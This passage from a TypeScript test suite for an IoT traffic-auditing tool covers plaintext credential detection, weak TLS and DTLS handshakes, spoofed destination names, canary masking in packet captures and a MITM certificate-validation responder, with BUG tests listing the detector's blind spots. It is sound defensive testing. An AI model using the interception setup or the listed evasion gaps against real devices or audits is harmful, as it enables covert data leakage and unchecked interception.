    expect(why(out, 'privacy.destinations')).toMatch(/^fail: .*metrics\.tracker\.example/);
    expect(why(out, 'comms.outbound-plaintext')).toMatch(/^fail: .*personal-data email/);
  });
});

function mqttConnect(user: string, pass: string): Buffer {
  const str = (x: string): Buffer => {
    const b = Buffer.from(x);
    const l = Buffer.alloc(2);
    l.writeUInt16BE(b.length);
    return Buffer.concat([l, b]);
  };
  const body = Buffer.concat([str('MQTT'), Buffer.from([4, 0xc2, 0, 60]), str('cam-0001'), str(user), str(pass)]);
  return Buffer.concat([Buffer.from([0x10, body.length]), body]);
}

describe('comms.outbound-plaintext: credentials and tokens it recognises only where tshark names them', () => {
  it('right: an MQTT CONNECT password in clear on 1883', async () => {
    const port = await sink(C, 1883);
    const out = await watch({ act: () => sendTcp(C, port, [mqttConnect('cam', 'mqtt-cloud-pw')]) });
    expect(why(out, 'comms.outbound-plaintext')).toMatch(/^fail: .*MQTT CONNECT password/);
  });

  it('BUG: the same MQTT CONNECT password in clear on 1884 (a second broker port): not recognised, and the check passes', async () => {
    const port = await sink(C, 1884);
    const out = await watch({ act: () => sendTcp(C, port, [mqttConnect('cam', 'mqtt-cloud-pw')]) });
    expect(why(out, 'comms.outbound-plaintext')).toMatch(/^fail: .*MQTT CONNECT password/);
  });

  it('BUG: HTTP/1.1 pipelining: a token in the URL of the second request on the segment is not looked at', async () => {
    const port = await sink(C);
    const out = await watch({
      act: () =>
        sendTcp(C, port, [
          'GET /status HTTP/1.1\r\nHost: api.cloud.example\r\n\r\nGET /v1/upload?token=9f8e7d6c5b4a3921 HTTP/1.1\r\nHost: api.cloud.example\r\n\r\n',
        ]),
    });
    expect(why(out, 'comms.outbound-plaintext')).toMatch(/^fail: .*URL parameter token/);
  });

  it('BUG: HTTP/1.1 pipelining: firmware fetched over plain HTTP as the second request is not noticed (pass instead of inconclusive)', async () => {
    const port = await sink(C);
    const out = await watch({
      act: () => sendTcp(C, port, ['GET /status HTTP/1.1\r\nHost: fw.cloud.example\r\n\r\nGET /fw/cam-2.1.0.bin HTTP/1.1\r\nHost: fw.cloud.example\r\n\r\n']),
    });
    expect(out.dests.flatMap((d) => d.http?.requests ?? []).map((r) => r.uri)).toContain('/status');
    expect(verdict(out, 'comms.outbound-plaintext')).not.toBe('pass');
  });

  it('BUG: HTTP/1.1 pipelining: a canary split between two segments, right after a request whose body tshark appends (the body lands between the two halves)', async () => {
    const port = await sink(C);
    const cut = 14;
    const out = await watch({
      act: () =>
        sendTcp(
          C,
          port,
          [
            `POST /hb HTTP/1.1\r\nHost: api.cloud.example\r\nContent-Length: 5\r\n\r\nhelloGET /v1/owner?e=${CANARY.slice(0, cut)}`,
            `${CANARY.slice(cut)} HTTP/1.1\r\nHost: api.cloud.example\r\n\r\n`,
          ],
          { gap: 150 },
        ),
    });
    expect(why(out, 'comms.outbound-plaintext')).toMatch(/^fail: .*personal-data email/);
  });
});

describe("comms.outbound-tls: the device's own TLS client", () => {
  it('right: a crafted SSLv3 ClientHello, an SSLv2-compatible hello on 443, and a TLS 1.0-only hello split over two segments (the first 40 bytes) all fail', async () => {
    const port = await sink(C);
    const p443 = await sink(C2, 443);
    const v2 = (() => {
      const specs = Buffer.from([0x01, 0x00, 0x80, 0x07, 0x00, 0xc0, 0x00, 0x00, 0x2f]);
      const chal = randomBytes(16);
      const body = Buffer.concat([Buffer.from([0x01, 0x00, 0x02, 0, specs.length, 0, 0, 0, chal.length]), specs, chal]);
      return Buffer.concat([Buffer.from([0x80 | (body.length >> 8), body.length & 0xff]), body]);
    })();
    const tls10 = clientHello({ version: 0x0301, suites: [0x002f, 0x0035], name: 'old.cloud.example' });
    for (const [name, host, p, hello] of [
      ['SSLv3', C, port, [clientHello({ version: 0x0300, suites: [0x002f, 0x000a], name: 'v3.cloud.example' })]],
      ['SSLv2', C2, p443, [v2]],
      ['TLS 1.0 only, split after 40 bytes', C, port, [tls10.subarray(0, 40), tls10.subarray(40)]],
    ] as const) {
      const out = await watch({ seconds: 2, act: () => sendTcp(host, p, [...hello], { gap: 100 }) });
      expect({ name, v: verdict(out, 'comms.outbound-tls') }).toEqual({ name, v: 'fail' });
    }
  });

  it('BUG: a TLS 1.0-only ClientHello whose first segment is one byte, to a non-standard port, beside a TLS 1.3 connection: tshark never calls it TLS', async () => {
    const good = await sink(C, 0);
    const old = await sink(C2, 0);
    const hello = clientHello({ version: 0x0301, suites: [0x002f, 0x0035, 0x000a], name: 'legacy.cloud.example' });
    const out = await watch({
      act: async () => {
        await goodTls(C, good, 'api.cloud.example');
        await sendTcp(C2, old, [hello.subarray(0, 1), hello.subarray(1)], { gap: 100 });
      },
    });
    expect(out.dests.find((d) => d.address === C)?.tls?.maxOffered).toBe('TLSv1.3');
    expect(why(out, 'comms.outbound-tls')).toMatch(/^fail/);
  });

  it('BUG: a DTLS 1.0 ClientHello (CoAP over DTLS, 5684) beside a TLS 1.3 connection: DTLS is never read', async () => {
    const good = await sink(C, 0);
    const out = await watch({
      act: async () => {
        await goodTls(C, good, 'api.cloud.example');
        await sendUdp(C2, 5684, [clientHello({ version: 0xfeff, suites: [0x002f, 0x000a], name: 'coap.cloud.example', dtls: true })]);
      },
    });
    expect(out.dests.find((d) => d.port === 5684)?.protocol).toBe('dtls');
    expect(why(out, 'comms.outbound-tls')).toMatch(/^fail/);
  });

  it('BUG: a TLS 1.2 client that offers nothing but CBC-SHA1 suites (no AEAD at all) passes: the "after stronger suites" rule is never checked', async () => {
    const port = await sink(C, 0);
    const out = await watch({
      act: () => sendTcp(C, port, [clientHello({ version: 0x0303, suites: [0x002f, 0x0035], name: 'api.cloud.example' })]),
    });
    const t = out.dests.find((d) => d.tls)!.tls!;
    expect(t.suites.sort()).toEqual([0x002f, 0x0035]);
    expect(why(out, 'comms.outbound-tls')).toMatch(/^fail/);
  });

  it('BUG: a flood fills traffic.maxMegabytes; the TLS 1.0 hello to an undeclared tracker after it is never captured, yet TLS and destinations pass', async () => {
    const cport = await sink(C);
    const tport = await sink(T);
    const out = await watch({
      seconds: 4,
      traffic: { maxMegabytes: 1 },
      act: async () => {
        await goodTls(C, cport, 'api.cloud.example');
        const chunks: Buffer[] = [];
        for (let i = 0; i < 48; i++) chunks.push(Buffer.alloc(32_768, 0x55));
        await sendTcp(C, cport, chunks, { gap: 8, linger: 50 });
        await sleep(300);
        await sendTcp(T, tport, [clientHello({ version: 0x0301, suites: [0x002f, 0x000a], name: 'metrics.tracker.example' })]);
      },
    });
    expect({ truncated: out.cap.truncated, dropped: out.cap.dropped ?? 0 }).toEqual({ truncated: true, dropped: 0 });
    expect(verdict(out, 'comms.outbound-plaintext')).toBe('inconclusive');
    expect({ tls: verdict(out, 'comms.outbound-tls'), destinations: verdict(out, 'privacy.destinations') }).toEqual({
      tls: expect.not.stringMatching(/^pass$/),
      destinations: expect.not.stringMatching(/^pass$/),
    });
  });
});

describe('privacy.destinations: which names make a destination declared', () => {
  const declared = { declaredDestinations: ['*.cloud.example', `${C}:53`] };

  it('right: evil-cloud.example, api.cloud.example.evil.com and an upper-case undeclared SNI are all undeclared; a single UDP packet to an undeclared host is seen', async () => {
    const tport = await sink(T);
    for (const sni of ['evil-cloud.example', 'api.cloud.example.evil.com', 'METRICS.TRACKER.EXAMPLE']) {
      const out = await watch({
        seconds: 2,
        traffic: declared,
        act: () => sendTcp(T, tport, [clientHello({ version: 0x0303, suites: [0xc02f, 0x1301], name: sni })]),
      });
      expect({ sni, v: verdict(out, 'privacy.destinations') }).toEqual({ sni, v: 'fail' });
    }
    const once = await watch({ seconds: 2, traffic: declared, act: () => sendUdp(T, 40999, [Buffer.from('hello once')]) });
    expect(why(once, 'privacy.destinations')).toMatch(/^fail: .*127\.0\.20\.9:40999\/udp/);
  });

  it('BUG: the device names a declared host in its SNI while connecting to an undeclared address no DNS answer tied to it', async () => {
    const tport = await sink(T);
    const out = await watch({
      traffic: declared,
      act: () => sendTcp(T, tport, [clientHello({ version: 0x0303, suites: [0xc02f, 0x1301], name: 'api.cloud.example' })]),
    });
    expect(out.dests.map((d) => d.address)).toEqual([T]);
    expect(verdict(out, 'privacy.destinations')).not.toBe('pass');
  });

  it('BUG: the same with a plain-HTTP Host header: the device says where it goes, and is believed', async () => {
    const tport = await sink(T);
    const out = await watch({
      traffic: declared,
      act: () => sendTcp(T, tport, ['POST /collect HTTP/1.1\r\nHost: api.cloud.example\r\nContent-Length: 2\r\n\r\n{}']),
    });
    expect(verdict(out, 'privacy.destinations')).not.toBe('pass');
  });

  it('BUG: a declared name and a tracker resolve to the same address; the SNI says the tracker, and the DNS name of the other makes it declared', async () => {
    await dnsServer({ 'api.cloud.example': [C2], 'metrics.tracker.example': [C2] });
    const port = await sink(C2);
    const out = await watch({
      traffic: declared,
      act: async () => {
        await resolve('api.cloud.example');
        await resolve('metrics.tracker.example');
        await sendTcp(C2, port, [clientHello({ version: 0x0303, suites: [0xc02f, 0x1301], name: 'metrics.tracker.example' })]);
      },
    });
    const d = out.dests.find((x) => x.address === C2)!;
    expect(d.tls?.sni).toEqual(['metrics.tracker.example']);
    expect(why(out, 'privacy.destinations')).toMatch(/^fail: .*metrics\.tracker\.example/);
  });
});

describe('the kept pcap holds no canary in any form the dissection itself finds', () => {
  const needles = { personalData: { email: CANARY }, secrets: {}, credentials: {} };
  const reread = (pcap: string) => dissect({ tshark: '/usr/bin/tshark', pcap, device: [D], bench: ['127.0.0.1'], needles, phase: 'watch', timeoutMs: 30_000 });

  it('right: the canary as is, URL-encoded, hex and base64 in one segment: overwritten in the file', async () => {
    const port = await sink(C);
    const b64 = Buffer.from(`x${CANARY}`).toString('base64');
    const hex = Buffer.from(CANARY).toString('hex');
    const out = await watch({
      act: () => sendTcp(C, port, [`GET /a?e=${encodeURIComponent(CANARY)}&h=${hex}&b=${b64} HTTP/1.1\r\nHost: api.cloud.example\r\nX-O: ${CANARY}\r\n\r\n`]),
    });
    expect(verdict(out, 'comms.outbound-plaintext')).toBe('fail');
    expect(out.cap.masked).toBeGreaterThan(0);
    const file = readFileSync(out.pcap).toString('latin1');
    for (const f of [CANARY, encodeURIComponent(CANARY), hex]) expect(file.includes(f)).toBe(false);
    expect((await reread(out.pcap)).destinations.flatMap((d) => d.clear)).toEqual([]);
  });

  it('BUG: a canary split across two TCP segments is found by the dissection but never masked: the kept pcap still gives it up', async () => {
    const port = await sink(C);
    const out = await watch({
      act: () => sendTcp(C, port, [`GET /a?e=${CANARY.slice(0, 10)}`, `${CANARY.slice(10)} HTTP/1.1\r\nHost: api.cloud.example\r\n\r\n`], { gap: 150 }),
    });
    expect(verdict(out, 'comms.outbound-plaintext')).toBe('fail');
    expect((await reread(out.pcap)).destinations.flatMap((d) => d.clear.map((c) => c.name))).not.toContain('email');
  });

  it('BUG: a canary in a gzip-compressed HTTP body is found (tshark inflates it) but stays readable in the kept pcap', async () => {
    const port = await sink(C);
    const gz = gzipSync(Buffer.from(JSON.stringify({ owner: CANARY })));
    const out = await watch({
      act: () =>
        sendTcp(C, port, [
          Buffer.concat([Buffer.from(`POST /o HTTP/1.1\r\nHost: api.cloud.example\r\nContent-Encoding: gzip\r\nContent-Length: ${gz.length}\r\n\r\n`), gz]),
        ]),
    });
    expect(verdict(out, 'comms.outbound-plaintext')).toBe('fail');
    expect((await reread(out.pcap)).destinations.flatMap((d) => d.clear.map((c) => c.name))).not.toContain('email');
  });
});

describe('comms.certificate-validation: the responder alone (runMitm with a stand-in nft that only records the rules)', () => {
  const R = '127.0.20.5';
  const dir = mkdtempSync(path.join(tmpdir(), 'sb-audit20-nft-'));
  const nft = path.join(dir, 'nft');
  const script = path.join(dir, 'script');
  // `-f -`: keep the rules (the device is pointed at the responder by the test instead); `list`: the table is gone.
  writeFileSync(nft, `#!/bin/sh\ncase "$1" in\n  -f) cat > ${script} ;;\n  list) exit 1 ;;\nesac\nexit 0\n`);
  chmodSync(nft, 0o755);
  afterAll(() => rmSync(dir, { recursive: true, force: true }));

  /** A TLS client on the device that accepts any certificate, its second flight held back `delayMs`. */
  function slowTrustingClient(port: number, delayMs: number): void {
    const raw = net.connect({ host: R, port, localAddress: D });
    raw.on('error', () => undefined);
    let writes = 0;
    const wire = new Duplex({
      read() {},
      write(chunk: Buffer, _enc, cb) {
        writes += 1;
        if (writes === 1) raw.write(chunk, () => cb());
        else
          setTimeout(() => {
            if (!raw.destroyed) raw.write(chunk);
            cb();
          }, delayMs).unref();
      },
    });
    raw.on('data', (c) => wire.push(c));
    raw.on('close', () => wire.destroy());
    wire.on('error', () => undefined);
    const c = tls.connect({ socket: wire, servername: 'api.cloud.example', rejectUnauthorized: false, maxVersion: 'TLSv1.2' });
    c.on('error', () => undefined);
    c.on('secureConnect', () => c.write(`{"owner":"${CANARY}"}`));
    setTimeout(() => {
      c.destroy();
      raw.destroy();
    }, 6000).unref();
  }

  async function mitm(device: (port: number) => void, seconds = 2, startMs = 0) {
    const fact = await runMitm({
      nft,
      iface: 'lo',
      bench: R,
      device: [D],
      targets: [{ address: C, port: 443, names: ['api.cloud.example'] }],
      seconds,
      personalData: { email: CANARY },
      signal: new AbortController().signal,
      tag: `audit20${process.pid}`,
      afterRules: async () => {
        const port = Number(/dnat to [\d.]+:(\d+)/.exec(readFileSync(script, 'utf8'))![1]);
        setTimeout(() => device(port), startMs).unref();
      },
    });
    // In the probe the fact is read only after the MITM capture is stopped and dissected: events still due land in it.
    await sleep(1000);
    const dev = deviceFrom({
      device: { name: 'mitm' },
      target: { host: D },
      services: [{ port: 1, protocol: 'other' }],
      personalData: { declared: ['email'], canaries: { email: CANARY } },
      traffic: { interface: 'lo', mitm: true, declaredDestinations: ['*.cloud.example'] },
    });
    const capture = {
      phase: 'watch',
      interface: 'lo',
      tool: 'tcpdump',
      filter: `host ${D}`,
      seconds: 2,
      bytes: 100,
      truncated: false,
      control: { seen: true, detail: 'seen' },
      deviceFlows: 1,
      dnsQueries: [],
      provoked: [],
    };
    const dest = {
      phase: 'watch',
      address: C,
      port: 443,
      transport: 'tcp',
      protocol: 'tls',
      names: ['api.cloud.example'],
      local: false,
      flows: 1,
      packetsOut: 3,
      bytesOut: 300,
      bytesIn: 300,
      firstFrame: 4,
      tls: { sni: ['api.cloud.example'], versions: ['TLSv1.2'], maxOffered: 'TLSv1.2', suites: [0xc02f], weakSuites: [], ja3: [], frames: [4] },
      clear: [],
      firmware: [],
    };
    const result = validateProbeResult(
      completed([
        { kind: 'traffic-capture', summary: 'c', data: capture },
        { kind: 'traffic-destination', summary: 'd', data: dest },
        { kind: 'traffic-mitm', summary: 'm', data: fact as unknown as Record<string, unknown> },
      ]),
      trafficProbe.facts,
    );
    const j = judgeCheck('comms.certificate-validation', {
      device: dev,
      checks: CHECKS,
      probes: PROBES,
      results: new Map([['traffic', result]]),
      reveal: false,
    });
    return { fact, j };
  }

  it('right: a device that accepts the untrusted certificate at once and sends its data fails', async () => {
    const { fact, j } = await mitm((port) => slowTrustingClient(port, 0));
    expect(fact.attempts.map((a) => a.outcome)).toContain('application-data');
    expect(j.verdict).toBe('fail');
  });

  it('right: a device whose OpenSSL client refuses the certificate (alert unknown_ca, then gone at once) is a refusal, recorded with its alert and SNI', async () => {
    // The alert tears the socket down before Node reports the handshake error: who sent it must not be read off it then
    // (a lab run recorded no attempt at all when it was).
    const { fact, j } = await mitm((port) => {
      const p = spawn('sh', ['-c', `echo | timeout 5 openssl s_client -connect ${R}:${port} -bind ${D}:0 -servername api.cloud.example -verify_return_error`], {
        stdio: 'ignore',
      });
      p.on('error', () => undefined);
    });
    expect(fact.attempts).toEqual([expect.objectContaining({ outcome: 'alert', sni: 'api.cloud.example', detail: expect.stringContaining('unknown_ca') })]);
    expect(j.verdict).toBe('pass');
  });

  it('right: a device whose client checks the certificate after the handshake and hangs up without an alert (as Node does) is a close, and passes only as that', async () => {
    const { fact, j } = await mitm((port) => {
      const raw = net.connect({ host: R, port, localAddress: D });
      raw.on('error', () => undefined);
      const c = tls.connect({ socket: raw, servername: 'api.cloud.example' });
      c.on('error', () => undefined);
    });
    expect(fact.attempts.map((a) => a.outcome)).toEqual(['closed']);
    expect(j.verdict).toBe('pass');
    expect(j.rationale).toMatch(/closed without a TLS alert/);
  });

  it('right: a device that accepts any certificate but is slow (its second flight 1.5 s later), cut off at the end of the window, is not counted as a refusal', async () => {
    const { fact, j } = await mitm((port) => slowTrustingClient(port, 1500), 2, 1000);
    expect(fact.attempts).toEqual([]);
    expect(j.verdict).toBe('inconclusive');
  });
});

describe('comms.outbound-plaintext: what was enrolled, and what was really looked for', () => {
  it('BUG: a three-letter name canary ("Kei") is never searched (values under 4 characters are skipped), yet the pass says "1 looked for"', async () => {
    const port = await sink(C);
    const out = await watch({
      personalData: { declared: ['name'], canaries: { name: 'Kei' } },
      act: () => sendTcp(C, port, ['POST /profile HTTP/1.1\r\nHost: api.cloud.example\r\nContent-Length: 14\r\n\r\n{"name":"Kei"}']),
    });
    expect(verdict(out, 'comms.outbound-plaintext')).not.toBe('pass');
  });

  it('BUG: the Japanese name canary sent in Shift_JIS (as many Japanese devices still do): the same name, other bytes', async () => {
    const port = await sink(C);
    const sjis = Buffer.from('8e52936389d48e71', 'hex'); // 山田花子
    const body = Buffer.concat([Buffer.from('name='), sjis]);
    const out = await watch({
      personalData: { declared: ['name'], canaries: { name: KANJI } },
      act: () =>
        sendTcp(C, port, [
          Buffer.concat([
            Buffer.from(
              `POST /profile HTTP/1.1\r\nHost: api.cloud.example\r\nContent-Type: text/plain; charset=Shift_JIS\r\nContent-Length: ${body.length}\r\n\r\n`,
            ),
            body,
          ]),
        ]),
    });
    expect(why(out, 'comms.outbound-plaintext')).toMatch(/^fail: .*personal-data name/);
  });

  it('BUG: SMTP AUTH PLAIN in clear (a camera mailing its alerts): tshark decodes it, starbench does not read it', async () => {
    const port = await sink(C, 25, (c, s) => {
      const t = c.toString();
      if (/^EHLO/i.test(t)) s.write('250-mail.cloud.example\r\n250 AUTH PLAIN LOGIN\r\n');
      else if (/^AUTH/i.test(t)) s.write('235 2.7.0 Authentication successful\r\n');
    });
    const out = await watch({
      act: async () => {
        const sock = net.connect({ host: C, port, localAddress: D });
        sock.on('error', () => undefined);
        const kill = setTimeout(() => sock.destroy(), 3000);
        await new Promise<void>((r) => sock.once('connect', () => r()));
        sock.write('EHLO cam\r\n');
        await sleep(100);
        sock.write(`AUTH PLAIN ${Buffer.from('\0cam@mail.example\0smtp-pass-9876').toString('base64')}\r\n`);
        await sleep(200);
        clearTimeout(kill);
        sock.destroy();
      },
    });
    expect(verdict(out, 'comms.outbound-plaintext')).toBe('fail');
  });

  it('BUG: nothing enrolled, clear JSON on UDP 53 (tshark: dns) or after an SSH banner (tshark: ssh): pass instead of the inconclusive the check gives for other clear bytes', async () => {
    const p22 = await sink(C2, 22);
    const got: Record<string, string> = {};
    for (const [proto, act] of [
      ['dns', () => sendUdp(C, 53, [Buffer.from('{"owner":"hanako","lat":35.6812,"lon":139.7671}\n')])],
      ['ssh', () => sendTcp(C2, p22, ['SSH-2.0-OpenSSH_8.0\r\n', '{"owner":"hanako","lat":35.6812,"lon":139.7671}\n'], { gap: 100 })],
    ] as const) {
      const out = await watch({ seconds: 2, personalData: { declared: [] }, act });
      expect(out.dests.map((d) => d.protocol)).toEqual([proto]);
      got[proto] = verdict(out, 'comms.outbound-plaintext');
    }
    expect(got).toEqual({ dns: 'inconclusive', ssh: 'inconclusive' });
  });

  it('BUG: traffic.mac is declared "so that IPv6 from addresses the device file does not name is captured": it is captured, and never read', async () => {
    const port = await sink(C);
    const six = keep(dgram.createSocket('udp6'));
    const sixPort = await listen(six, 0, '::1');
    const out = await watch({
      // On lo every frame has the all-zero MAC: the device's MAC in the filter brings its IPv6 (here ::1) into the capture.
      traffic: { mac: '00:00:00:00:00:00' },
      act: async () => {
        const u = dgram.createSocket('udp6');
        await listen(u, 0, '::1');
        await new Promise<void>((r) => u.send(`{"owner":"${CANARY}"}`, sixPort, '::1', () => r()));
        u.close();
        await sendTcp(C, port, ['GET /status HTTP/1.1\r\nHost: api.cloud.example\r\n\r\n']);
      },
    });
    const inPcap = execFileSync('tshark', ['-r', out.pcap, '-Y', `udp.port == ${sixPort}`, '-T', 'fields', '-e', 'ipv6.src'], {
      stdio: ['ignore', 'pipe', 'ignore'],
    }).toString();
    expect(inPcap).toContain('::1');
    expect(verdict(out, 'comms.outbound-plaintext')).not.toBe('pass');
  });
});
